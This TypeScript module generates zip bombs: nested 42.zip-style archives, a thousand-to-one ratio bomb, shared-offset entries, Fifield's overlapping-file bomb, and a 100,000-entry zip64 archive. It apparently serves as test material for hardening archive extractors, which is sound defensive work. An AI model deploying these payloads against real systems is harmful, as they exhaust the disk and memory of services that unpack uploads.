import { crc32, deflateRawSync } from 'node:zlib'
import { buildZip, localHeader, type Part } from './zip.ts'

/** A zip inside a zip inside a zip …: `depth` archives around `data`, each holding `width` copies of the next. */
export function nest(data: Buffer, depth: number, width = 1, name = 'inner.bin'): Buffer {
  let bytes = data
  for (let level = 0; level < depth; level++) {
    const file = level === 0 ? name : 'inner.zip'
    const packed = deflateRawSync(bytes, { level: 9 })
    bytes = buildZip(Array.from({ length: width }, (_, index) => ({ name: `${index}-${file}`, data: bytes, packed })))
  }
  return bytes
}

/** In the manner of 42.zip: five levels of sixteen archives each, a hundred megabytes of zeros at the bottom of every one. */
export function nestedBomb(): Buffer {
  return nest(Buffer.alloc(100_000_000), 5, 16, 'zeros')
}

/** One file that is a thousand times smaller packed: a megabyte that becomes `size` bytes. */
export function ratioBomb(size = 1_000_000_000): Buffer {
  // Deflate of one repeated byte repeats itself, too: a block is made once and written often.
  const block = 10_000_000
  const zeros = Buffer.alloc(block)
  const blocks = size / block
  const packed: Buffer[] = []
  // SYNC_FLUSH (2) ends a block on a byte, without ending the stream.
  const repeated = deflateRawSync(zeros, { level: 9, finishFlush: 2 })
  let checksum = 0
  for (let index = 0; index < blocks; index++) {
    packed.push(repeated)
    checksum = crc32(zeros, checksum)
  }
  packed.push(deflateRawSync(Buffer.alloc(0)))
  return buildZip([
    { name: 'zeros', data: Buffer.alloc(0), packed: Buffer.concat(packed), declared: { size, crc32: checksum } },
  ])
}

/** Many entries of the list that all point at one file. */
export function sharedBytesBomb(entries = 1000): Buffer {
  const data = Buffer.alloc(1_000_000)
  const parts: Part[] = [{ name: 'kernel', data }]
  const { length } = deflateRawSync(data, { level: 9 })
  for (let index = 1; index < entries; index++) {
    parts.push({ name: 'kernel', data, packed: Buffer.alloc(length), offset: 0 })
  }
  return buildZip(parts)
}

/**
 * Fifield's "better zip bomb": each file's packed bytes begin by quoting the header of the next as an uncompressed
 * block and run on to one shared end, so every header is true and the files grow with the square of their count.
 */
export function quotedOverlapBomb(files = 200): Buffer {
  const kernelData = Buffer.alloc(1_000_000)
  const kernel = deflateRawSync(kernelData, { level: 9 })
  const flags = 0x800
  const parts: Part[] = []
  let data = kernelData
  let packed = kernel
  let body = Buffer.alloc(0)
  for (let index = files - 1; index >= 0; index--) {
    const name = String(index).padStart(5, '0')
    const header = localHeader({
      name: Buffer.from(name),
      method: 8,
      flags,
      crc: crc32(data),
      size: data.length,
      compressedSize: packed.length,
      zip64: false,
    })
    parts.unshift({ name, data, packed, flags })
    body = Buffer.concat([header, packed])
    if (index === 0) break
    const quote = Buffer.alloc(5)
    quote.writeUInt16LE(header.length, 1)
    quote.writeUInt16LE(~header.length & 0xffff, 3)
    packed = Buffer.concat([quote, body])
    data = Buffer.concat([header, data])
  }
  // Only the first file is written; the others lie inside it, each behind the five bytes that quote its header.
  const step = 30 + 5 + 5
  return buildZip(parts.map((part, index) => (index === 0 ? part : { ...part, offset: index * step })))
}

/** As many empty files as asked for, listed in a zip64 directory. */
export function manyEntries(entries = 100_000): Buffer {
  const empty = Buffer.alloc(0)
  const parts = Array.from({ length: entries }, (_, index): Part => ({
    name: `${index}`,
    data: empty,
    method: 'store',
  }))
  return buildZip(parts, { zip64: true })
}
